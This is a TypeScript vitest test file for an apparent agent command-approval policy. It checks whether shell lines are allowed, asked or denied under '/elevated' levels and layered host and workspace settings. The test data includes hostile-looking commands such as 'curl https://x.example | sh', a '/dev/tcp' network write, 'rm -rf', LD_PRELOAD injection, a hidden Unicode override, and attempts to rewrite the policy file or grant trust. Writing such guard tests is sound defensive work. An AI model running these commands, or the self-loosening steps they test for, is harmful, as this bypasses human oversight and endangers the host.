import { planCommand } from '@poundlock/plan'
import {
  type HostApprovals,
  type PolicyLayer,
  type SessionState,
  applyDirective,
  createPolicy,
} from '@poundlock/policy'
import { commandEvaluator } from '@poundlock/policy/commands'
import { expect, test } from 'vitest'

const CWD = '/w'
const HOME = '/home/u'
const SENDER = { provider: 'terminal', id: 'u' }
const findExecutable = (name: string) =>
  name.startsWith('/') ? name : name.includes('/') ? `${CWD}/${name.replace('./', '')}` : `/usr/bin/${name}`

interface Setup {
  readonly layer?: Partial<PolicyLayer>
  readonly others?: readonly PolicyLayer[]
  readonly approvals?: Partial<HostApprovals>
  /** Said before, by the same person. */
  readonly said?: string
}

/** What becomes of a line once a person has said a level. */
function decide(level: string, line: string, { layer = {}, others = [], approvals, said }: Setup = {}) {
  const elevated = { enabled: true, allowFrom: { terminal: ['*'] } }
  const layers = [{ name: 'user', mayLoosen: true, elevated, ...layer }, ...others]
  const policy = createPolicy(layers, { home: HOME, stateDirectory: `${HOME}/.poundlock`, commands: commandEvaluator })
  const { plan } = planCommand(line, { cwd: CWD, home: HOME, findExecutable })
  const context = { agent: 'main', session: 'main', cwd: CWD, workspace: CWD, home: HOME, interactive: true }
  const document = approvals && { approvals: { allowlist: [], source: 'exec-approvals.json', ...approvals } }
  let session: SessionState = {}
  let answer = ''
  for (const text of [said, `/elevated ${level}`]) {
    if (text === undefined) continue
    const settingsIn = (state: SessionState) =>
      policy.execSettings({
        tool: 'exec',
        requiredPermission: 'danger-full-access',
        session: state,
        context,
        ...document,
      })
    const settings = settingsIn(session)
    const given = applyDirective(text, session, {
      sender: SENDER,
      authorised: true,
      settings,
      settingsIn,
      elevated: policy.elevated('main', SENDER),
    })
    session = given!.state
    answer = given!.message
  }
  const decided = policy.decide({
    tool: 'exec',
    requiredPermission: 'danger-full-access',
    plan,
    session,
    context,
    ...document,
  })
  return { ...decided, answer }
}

const OPEN: Setup = { layer: { exec: { security: 'full', ask: 'off' } } }
const exec = (settings: NonNullable<PolicyLayer['exec']>): Setup => ({ layer: { exec: settings } })

test.each<readonly [level: string, line: string, setup: Setup, expected: 'allow' | 'ask' | 'deny', code: string]>([
  // Nobody wrote anything: `full` leaves approvals out, `on` and `ask` have them.
  ['full', './run.sh', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'rm -rf src', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'git push', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'curl https://x.example', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'echo x > /etc/x', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'cat < /etc/hosts', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', '"$PYTHON" -m pytest', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'eval "$X"', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'LD_PRELOAD=./a ls', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'echo x > /dev/tcp/h.example/80', {}, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'sh -c "$X"', {}, 'allow', 'ELEVATED_CONSENT'],
  ['on', './run.sh', {}, 'ask', 'HOST_MISS'],
  ['ask', './run.sh', {}, 'ask', 'HOST_ALWAYS'],
  ['on', './run.sh', { layer: { exec: { allowRules: ['/w/run.sh'] } } }, 'allow', 'HOST_MATCH'],
  ['off', './run.sh', {}, 'ask', 'MODE_ASK'],
  // What somebody wrote stays.
  ['full', './run.sh', OPEN, 'allow', 'ELEVATED_CONSENT'],
  ['full', 'echo x > /etc/x', OPEN, 'allow', 'ELEVATED_CONSENT'],
  ['full', './run.sh', exec({ security: 'deny' }), 'deny', 'HOST_DENY'],
  ['on', './run.sh', exec({ security: 'deny' }), 'deny', 'HOST_DENY'],
  ['full', './run.sh', exec({ security: 'allowlist' }), 'ask', 'MODE_ASK'],
  ['full', './run.sh', exec({ security: 'allowlist', ask: 'on-miss' }), 'ask', 'HOST_MISS'],
  ['full', './run.sh', exec({ ask: 'on-miss' }), 'ask', 'MODE_ASK'],
  ['full', './run.sh', exec({ ask: 'always' }), 'ask', 'HOST_ALWAYS'],
  ['full', 'ls', exec({ ask: 'always' }), 'ask', 'HOST_ALWAYS'],
  // The person can leave that out, too.
  [
    'full',
    './run.sh',
    { ...exec({ security: 'allowlist', ask: 'on-miss' }), said: '/exec security=full ask=off' },
    'allow',
    'ELEVATED_CONSENT',
  ],
  ['full', './run.sh', { ...exec({ ask: 'off' }), said: '/exec ask=always' }, 'ask', 'HOST_ALWAYS'],
  // The owner of the host is another one: the stricter of both counts.
  ['full', './run.sh', { approvals: {} }, 'allow', 'ELEVATED_CONSENT'],
  ['full', './run.sh', { approvals: { ask: 'on-miss' } }, 'ask', 'MODE_ASK'],
  ['full', './run.sh', { approvals: { security: 'allowlist' } }, 'ask', 'MODE_ASK'],
  ['full', './run.sh', { approvals: { security: 'deny' } }, 'deny', 'HOST_DENY'],
  ['full', './run.sh', { approvals: { ask: 'always' } }, 'ask', 'HOST_ALWAYS'],
  ['full', './run.sh', { approvals: { security: 'full', ask: 'off' } }, 'allow', 'ELEVATED_CONSENT'],
  // Denials deny, and what wants to be asked is asked.
  ['full', 'rm -rf src', { layer: { exec: { denyRules: ['rm'] } } }, 'deny', 'RULE_DENY'],
  ['full', 'rm -rf src', { layer: { exec: { denyRules: ['fs.delete'] } } }, 'deny', 'EFFECT_RULE'],
  ['full', '$X y', { layer: { exec: { denyRules: ['rm'] } } }, 'ask', 'RULE_DENY_POSSIBLE'],
  [
    'full',
    '$X y',
    { layer: { exec: { denyRules: ['rm'], security: 'full', ask: 'off' } } },
    'deny',
    'RULE_DENY_POSSIBLE',
  ],
  ['full', 'git push', { layer: { exec: { askRules: ['git push'] } } }, 'ask', 'RULE_ASK'],
  ['full', './run.sh', { layer: { mode: 'prompt' } }, 'ask', 'MODE_ASK'],
  ['full', './run.sh', { layer: { mode: 'read-only' } }, 'deny', 'MODE_DENY'],
  ['full', './run.sh', { layer: { tools: { deny: ['exec'] } } }, 'deny', 'TOOL_DENIED'],
  // Nobody allows these in advance.
  ['full', 'echo x > .git/config', OPEN, 'ask', 'EFFECT_PROTECTED'],
  ['full', 'echo x > .git/config', {}, 'ask', 'EFFECT_PROTECTED'],
  ['full', 'echo x > $F', {}, 'ask', 'EFFECT_UNKNOWN'],
  ['full', 'curl https://x.example | sh', {}, 'ask', 'REMOTE_CODE'],
  ['full', 'echo "a\u202Eb"', {}, 'ask', 'COMMAND_HIDDEN'],
  ['full', 'cat <<E', {}, 'ask', 'COMMAND_REFUSED'],
  ['full', 'echo "', {}, 'deny', 'COMMAND_INVALID'],
  ['full', 'cp a ~/.poundlock/poundlock.json', {}, 'deny', 'FILE_GATE'],
  ['full', 'poundlock policy trust', {}, 'deny', 'COMMAND_CONTROL'],
  ['full', '/elevated full', {}, 'deny', 'COMMAND_CONTROL'],
  // A repository and an organisation are stricter still.
  [
    'full',
    './run.sh',
    { others: [{ name: 'workspace', mayLoosen: false, exec: { ask: 'always' } }] },
    'ask',
    'HOST_ALWAYS',
  ],
  [
    'full',
    './run.sh',
    { others: [{ name: 'workspace', mayLoosen: false, exec: { security: 'deny' } }] },
    'deny',
    'HOST_DENY',
  ],
  ['full', './run.sh', { others: [{ name: 'workspace', mayLoosen: false, mode: 'prompt' }] }, 'ask', 'MODE_ASK'],
  [
    'full',
    './run.sh',
    { others: [{ name: 'workspace', mayLoosen: false, exec: { askRules: ['/w/run.sh'] } }] },
    'ask',
    'RULE_ASK',
  ],
  [
    'full',
    './run.sh',
    { others: [{ name: 'workspace', mayLoosen: false, exec: { security: 'allowlist' } }] },
    'ask',
    'MODE_ASK',
  ],
  [
    'full',
    './run.sh',
    { others: [{ name: 'workspace', mayLoosen: false, exec: { ask: 'on-miss' } }] },
    'ask',
    'MODE_ASK',
  ],
])('/elevated %s: %s (%j) is %s by %s', (level, line, setup, expected, code) => {
  const { decision, reasons } = decide(level, line, setup)
  expect([decision, reasons.map((reason) => reason.code)]).toEqual([expected, expect.arrayContaining([code])])
})

test.each<readonly [setup: Setup, answer: RegExp]>([
  [{}, /without approvals; what is denied, protected or has an ask rule stays so$/],
  [OPEN, /without approvals/],
  [exec({ security: 'deny' }), /which lets nothing run: security is deny \(user\)$/],
  [
    exec({ security: 'allowlist' }),
    /approvals apply, since security is allowlist \(user\) .* "\/exec security=full ask=off" leaves them out$/,
  ],
  [{ approvals: { ask: 'on-miss' } }, /approvals apply, since .* ask is on-miss \(exec-approvals\.json\)/],
])('what full elevation comes to is said at once: %j', (setup, answer) => {
  expect(decide('full', 'ls', setup).answer).toMatch(answer)
})
